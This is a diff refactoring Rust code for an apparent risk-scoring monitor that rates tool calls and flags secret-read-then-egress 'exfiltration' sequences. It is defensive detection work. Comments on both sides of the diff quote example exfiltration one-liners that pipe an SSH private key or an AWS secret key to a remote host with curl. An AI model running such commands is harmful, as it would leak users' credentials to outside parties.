@@ -207,80 +207,9 @@ pub fn assess_risk(
     state: &mut ExtensionRiskState,
     input: &RiskInput,
 ) -> Evaluation {
-    let capability = input.capability;
-    let signals = input.signals;
-    let is_exec = capability == Capability::Exec;
-
-    // Argument signals (from detection: the model reads no params itself). The target of an
-    // exec command scores through its tier (what the command does), not again here; it still
-    // counts as the egress half of the exfiltration shape.
-    let http_class = if is_exec { None } else { signals.target };
-    let sensitive = matches!(
-        capability,
-        Capability::Read | Capability::Write | Capability::Tool
-    ) && signals.sensitive_path;
-    // A secret env read: brokered (`env`) or by a command that expands or dumps it (`exec`).
-    let secret = matches!(capability, Capability::Env | Capability::Exec) && signals.secret_env;
-    let critical_class = is_exec && input.exec_critical_class;
-    // History signals.
-    let (burst_1s, burst_10s) = state.push_call_time(input.now_ms);
-    let novelty = capability.is_dangerous() && !state.used(capability);
-    // The exfiltration shape: data leaves the network after a secret or sensitive read in the
-    // window — or, for one command line, in the same call (`cat ~/.ssh/id_rsa | curl -d @-
-    // https://…`, `curl -d "$AWS_SECRET_ACCESS_KEY" https://…`).
-    let egress = signals.target;
-    let exfiltration = signals.leaves
-        && (signals.secret_read
-            || state
-                .last_sensitive_read
-                .is_some_and(|at| state.calls.saturating_sub(at) <= model.window_size as u64));
-    let window_mean = state.scores.mean();
-
-    let flag = |b: bool| if b { 1.0 } else { 0.0 };
-    let raw_features = Feature::ALL.map(|feature| match feature {
-        Feature::Capability => capability_base(capability),
-        Feature::ExecTier => {
-            if is_exec {
-                exec_tier_value(input.exec_tier)
-            } else {
-                0.0
-            }
-        }
-        Feature::ExecSafe => flag(is_exec && input.exec_tier == Some(ExecTier::Low)),
-        Feature::ExecCriticalClass => flag(critical_class),
-        Feature::SensitivePath => flag(sensitive),
-        Feature::HttpTarget => http_class.map_or(0.0, |c| c.feature_value()),
-        Feature::SecretEnv => flag(secret),
-        Feature::Burst1s => burst_1s,
-        Feature::Burst10s => burst_10s,
-        Feature::ErrorRate => state.error_rate(),
-        Feature::FailureStreak => {
-            (f64::from(state.failure_streak) / FAILURE_STREAK_SATURATION).min(1.0)
-        }
-        Feature::Novelty => flag(novelty),
-        Feature::ExfiltrationShape => flag(exfiltration),
-        Feature::WindowMean => window_mean,
-    });
-    // A non-finite feature can only come from a bug: it fails closed (value 1) and the
-    // evaluation is marked as a controller error.
-    let mut controller_error = false;
-    let features: [f64; FEATURE_COUNT] = raw_features.map(|v| {
-        if v.is_finite() {
-            v.clamp(0.0, 1.0)
-        } else {
-            controller_error = true;
-            1.0
-        }
-    });
-    let mut terms = [(Feature::Capability, 0.0); FEATURE_COUNT];
-    let mut raw_score = 0.0;
-    for ((term, feature), value) in terms.iter_mut().zip(Feature::ALL).zip(features) {
-        let impact = feature.weight() * value;
-        raw_score += impact;
-        *term = (feature, impact);
-    }
-    // The clamp is the final mathematical bound of docs/design.md §3, not a correction of any term.
-    let score = raw_score.clamp(0.0, 1.0);
+    let facts = CallFacts::of(model, state, input);
+    let (features, controller_error) = facts.features(state, input);
+    let (terms, score) = weigh(&features);
 
     // Posterior with forgetting.
     state.dirichlet.forget(model.lambda);
@@ -293,31 +222,11 @@ pub fn assess_risk(
         model.log_threshold,
         model.e_increments,
     );
-    let residual = (score - window_mean).abs();
+    let residual = (score - facts.window_mean).abs();
     let drift = state
         .drift
         .step(residual, model.alpha, model.min_exceedances);
-
-    let mut triggers = Triggers::empty();
-    if e.breach {
-        triggers.insert(Trigger::EProcessBreach);
-    }
-    if drift.drifting {
-        triggers.insert(Trigger::Drift);
-    }
-    if critical_class {
-        triggers.insert(Trigger::CriticalExecClass);
-    }
-    if exfiltration {
-        triggers.insert(Trigger::ExfiltrationShape);
-    }
-    // A single high-confidence call does not wait for a sequence (docs/detection.md
-    // "Severity"): a High or Critical rule floors the state at Prompt.
-    match signals.rule_severity {
-        Some(ExecTier::Critical) => triggers.insert(Trigger::CriticalRule),
-        Some(ExecTier::High) => triggers.insert(Trigger::SevereRule),
-        Some(ExecTier::Low | ExecTier::Medium) | None => {}
-    }
+    let triggers = facts.triggers(e.breach, drift.drifting, input.signals.rule_severity);
 
     // The hysteresis machine: wired into every evaluation.
     let (next, outcome) = state.hysteresis.step(
@@ -329,42 +238,30 @@ pub fn assess_risk(
         },
     );
     state.hysteresis = next;
+    facts.remember(state, input, score);
 
-    // Remember this call.
-    state.scores.push(score);
-    state.capabilities_used |= 1u16 << capability.code();
-    // A secret read by any method and through any tool (a secret file or store, a secret env
-    // var, a fetch of cloud instance metadata) arms the exfiltration shape; a read of system
-    // configuration (`/etc/resolv.conf`) is sensitive but holds no secret, and does not.
-    let credential_fetch = egress.is_some_and(HttpTargetClass::reads_credentials);
-    if secret || signals.secret_read || credential_fetch {
-        state.last_sensitive_read = Some(state.calls);
-    }
-    state.calls = state.calls.saturating_add(1);
-
-    let explanation = Explanation::from_features(terms);
     let posterior_finite = posterior.safe.is_finite()
         && posterior.suspicious.is_finite()
         && posterior.unsafe_.is_finite();
     let fallback = (controller_error || !posterior_finite || !e.log_value.is_finite())
         .then_some(FallbackReason::ControllerError);
-    let verdict = fallback_verdict(model, outcome.after, fallback);
+    let unsafe_posterior = Posterior {
+        safe: 0.0,
+        suspicious: 0.0,
+        unsafe_: 1.0,
+    };
     Evaluation {
         score,
         posterior: if posterior_finite {
             posterior
         } else {
-            Posterior {
-                safe: 0.0,
-                suspicious: 0.0,
-                unsafe_: 1.0,
-            }
+            unsafe_posterior
         },
         triggers,
         target: outcome.target,
         state_before: outcome.before,
         state_after: outcome.after,
-        verdict,
+        verdict: fallback_verdict(model, outcome.after, fallback),
         transition: outcome.transition,
         unsafe_evaluation: outcome.unsafe_evaluation,
         consecutive_unsafe: outcome.consecutive_unsafe,
@@ -375,10 +272,146 @@ pub fn assess_risk(
         },
         drift: drift.drifting,
         features,
-        explanation,
+        explanation: Explanation::from_features(terms),
         fallback,
         decision_ms: 0,
     }
+}
+
+/// One call's signals and the extension's history, as the features read them.
+struct CallFacts {
+    is_exec: bool,
+    /// Where a non-exec call goes (an exec command's target scores through its tier).
+    http_class: Option<HttpTargetClass>,
+    sensitive: bool,
+    /// A secret env read: brokered (`env`) or by a command that expands or dumps it (`exec`).
+    secret: bool,
+    critical_class: bool,
+    burst_1s: f64,
+    burst_10s: f64,
+    novelty: bool,
+    exfiltration: bool,
+    window_mean: f64,
+}
+
+impl CallFacts {
+    /// Reads the signals (from detection: the model reads no params itself) and the history;
+    /// records the call's time for the burst features.
+    fn of(model: &RiskModel, state: &mut ExtensionRiskState, input: &RiskInput) -> CallFacts {
+        let capability = input.capability;
+        let signals = input.signals;
+        let is_exec = capability == Capability::Exec;
+        let (burst_1s, burst_10s) = state.push_call_time(input.now_ms);
+        // The exfiltration shape: data leaves the network after a secret or sensitive read in
+        // the window — or, for one command line, in the same call (`cat ~/.ssh/id_rsa | curl -d
+        // @- https://…`, `curl -d "$AWS_SECRET_ACCESS_KEY" https://…`).
+        let recent_read = state
+            .last_sensitive_read
+            .is_some_and(|at| state.calls.saturating_sub(at) <= model.window_size as u64);
+        CallFacts {
+            is_exec,
+            http_class: if is_exec { None } else { signals.target },
+            sensitive: matches!(
+                capability,
+                Capability::Read | Capability::Write | Capability::Tool
+            ) && signals.sensitive_path,
+            secret: matches!(capability, Capability::Env | Capability::Exec) && signals.secret_env,
+            critical_class: is_exec && input.exec_critical_class,
+            burst_1s,
+            burst_10s,
+            novelty: capability.is_dangerous() && !state.used(capability),
+            exfiltration: signals.leaves && (signals.secret_read || recent_read),
+            window_mean: state.scores.mean(),
+        }
+    }
+
+    /// Every feature in [0, 1]. A non-finite feature can only come from a bug: it fails closed
+    /// (value 1) and the second value says the evaluation is a controller error.
+    fn features(
+        &self,
+        state: &ExtensionRiskState,
+        input: &RiskInput,
+    ) -> ([f64; FEATURE_COUNT], bool) {
+        let flag = |b: bool| if b { 1.0 } else { 0.0 };
+        let raw = Feature::ALL.map(|feature| match feature {
+            Feature::Capability => capability_base(input.capability),
+            Feature::ExecTier if self.is_exec => exec_tier_value(input.exec_tier),
+            Feature::ExecTier => 0.0,
+            Feature::ExecSafe => flag(self.is_exec && input.exec_tier == Some(ExecTier::Low)),
+            Feature::ExecCriticalClass => flag(self.critical_class),
+            Feature::SensitivePath => flag(self.sensitive),
+            Feature::HttpTarget => self.http_class.map_or(0.0, |c| c.feature_value()),
+            Feature::SecretEnv => flag(self.secret),
+            Feature::Burst1s => self.burst_1s,
+            Feature::Burst10s => self.burst_10s,
+            Feature::ErrorRate => state.error_rate(),
+            Feature::FailureStreak => {
+                (f64::from(state.failure_streak) / FAILURE_STREAK_SATURATION).min(1.0)
+            }
+            Feature::Novelty => flag(self.novelty),
+            Feature::ExfiltrationShape => flag(self.exfiltration),
+            Feature::WindowMean => self.window_mean,
+        });
+        let mut controller_error = false;
+        let features = raw.map(|v| {
+            if v.is_finite() {
+                v.clamp(0.0, 1.0)
+            } else {
+                controller_error = true;
+                1.0
+            }
+        });
+        (features, controller_error)
+    }
+
+    /// The triggers that fired. A single high-confidence call does not wait for a sequence
+    /// (docs/detection.md "Severity"): a High or Critical rule floors the state at Prompt.
+    fn triggers(&self, breach: bool, drifting: bool, rule: Option<ExecTier>) -> Triggers {
+        let mut triggers = Triggers::empty();
+        for (fired, trigger) in [
+            (breach, Trigger::EProcessBreach),
+            (drifting, Trigger::Drift),
+            (self.critical_class, Trigger::CriticalExecClass),
+            (self.exfiltration, Trigger::ExfiltrationShape),
+            (rule == Some(ExecTier::Critical), Trigger::CriticalRule),
+            (rule == Some(ExecTier::High), Trigger::SevereRule),
+        ] {
+            if fired {
+                triggers.insert(trigger);
+            }
+        }
+        triggers
+    }
+
+    /// Remembers the call: its score, its capability, and whether it read a secret. A secret
+    /// read by any method and through any tool (a secret file or store, a secret env var, a
+    /// fetch of cloud instance metadata) arms the exfiltration shape; a read of system
+    /// configuration (`/etc/resolv.conf`) is sensitive but holds no secret, and does not.
+    fn remember(&self, state: &mut ExtensionRiskState, input: &RiskInput, score: f64) {
+        state.scores.push(score);
+        state.capabilities_used |= 1u16 << input.capability.code();
+        let signals = input.signals;
+        let credential_fetch = signals
+            .target
+            .is_some_and(HttpTargetClass::reads_credentials);
+        if self.secret || signals.secret_read || credential_fetch {
+            state.last_sensitive_read = Some(state.calls);
+        }
+        state.calls = state.calls.saturating_add(1);
+    }
+}
+
+/// Each feature's impact (weight × value) and the score: their sum, clamped to [0, 1] — the
+/// final mathematical bound of docs/design.md §3, not a correction of any term.
+fn weigh(features: &[f64; FEATURE_COUNT]) -> ([(Feature, f64); FEATURE_COUNT], f64) {
+    let mut terms = [(Feature::Capability, 0.0); FEATURE_COUNT];
+    let mut raw_score = 0.0;
+    for ((term, feature), value) in terms.iter_mut().zip(Feature::ALL).zip(features) {
+        let impact = feature.weight() * value;
+        raw_score += impact;
+        *term = (feature, impact);
+    }
+    (terms, raw_score.clamp(0.0, 1.0))
 }
 
 /// A fallback never downgrades: fail-closed raises to at least Deny, fail-open keeps the state
